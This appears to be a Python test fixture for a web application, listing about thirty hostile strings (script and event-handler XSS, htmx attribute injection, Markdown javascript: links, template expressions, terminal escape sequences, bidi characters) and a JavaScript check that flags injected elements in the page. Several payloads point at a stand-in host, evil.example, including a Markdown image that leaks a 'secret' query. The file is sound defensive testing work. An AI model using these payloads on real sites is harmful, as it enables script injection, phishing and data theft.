"""Texts that act if a page treats them as markup, and a check that they do not."""

from __future__ import annotations

#: Rows 90 to 94 of the bad inputs.
HOSTILE = [
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg onload=alert('svg')><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<a href=\"javascript:alert('href')\">click</a>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "<style>@import 'http://evil.example/x.css'; * { display: none }</style>",
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><button>Log in</button></form>',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert('mxss')>\">",
    "</li></ol></main></body><h1 id=broken>out</h1>",
    "</textarea></pre></bdi></template><h1 id=broken>out</h1>",
    '<div hx-get="/admin/" hx-trigger="load" hx-target="body">x</div>',
    "<div hx-on:click=\"alert('on')\" hx-on--load=\"alert('load')\" _=\"on load call alert('hyper')\">x</div>",
    '<div data-hx-get="/login" data-hx-trigger="load" data-hx-swap-oob="true" id="head">x</div>',
    '<li id="e1" hx-swap-oob="outerHTML:#timeline">gone</li>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css><object data=//evil.example></object>",
    "![x](http://evil.example/?q=secret) [a](javascript:alert('markdown'))",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    "\u202egnp.exe\u2066 \u200bzero\u200dwidth\ufeff",
    "data: x\n\nevent: end\ndata: y\n\nid: 99999\n\n",
    "data: x\r\revent: end\rdata: y\r\r",
    "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil.example\x07link \x9b31m \b\b\b",
    "[a](data:text/html,<script>alert(1)</script>) [b](//evil.example/) <javascript:alert(1)> [c]: javascript:alert(1)",
    "```html\n<script>alert('fence')</script>\n```\n\n    <img src=x onerror=alert('code')>",
    "| <b onclick=alert(1)>h</b> |\n|---|\n| ![i](javascript:alert(1)) |\n\n# <svg onload=alert('heading')>",
    "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-<script>alert('diff')</script>\n+<img src=x onerror=alert(1)>",
    '{"<script>alert(1)</script>": ["<img src=x onerror=alert(1)>", "\\u001b]8;;http://evil.example\\u0007\\u202e"]}',
    "\x1b[31m<script>alert('tty')</script>\x1b[0m\x1b]0;<svg onload=alert(1)>\x07",
    "[" * 3000 + ">" * 3000 + "*" * 3000,
    "\u2028\u2029 lines ]]> <![CDATA[ <!-- comment",
    "Z" + "\u0301" * 500 + " " + "W" * 5000,
]
WHOLE = "\n".join(HOSTILE)
#: Elements, handlers and URLs in `main` that only such a text could have added.
FOREIGN = r"""() => {
  const tags = /^(script|img|iframe|style|base|math|object|link|meta|animate|mglyph|mtext)$/i;
  const acts = /^(on|hx-on|data-hx-|_$|srcdoc)/i;
  const ours = /^([/?#]|$)/;
  // A link of a Markdown text leads out, and says so; a picture comes from this site.
  const leads = (node) => node.tagName === "A" && node.closest(".markdown") && node.relList.contains("nofollow") &&
    /^(https?|mailto):$/.test(node.protocol);
  const picture = (node) => node.tagName === "IMG" && node.closest(".picture") &&
    node.src.startsWith(`${location.origin}/runs/`);
  const strange = (node) => !leads(node) && !picture(node) && (node.id === "broken" || tags.test(node.tagName) ||
    [...node.attributes].some(({ name, value }) => acts.test(name) ||
      (/^(href|src|action|formaction|hx-get|hx-post)$/.test(name) && (!ours.test(value) || value.startsWith("//"))) ||
      (name === "hx-get" && !/^\/(runs|p)\//.test(value))));
  return [...document.querySelectorAll("main *, body > #broken")].filter(strange).map((node) => node.outerHTML);
}"""
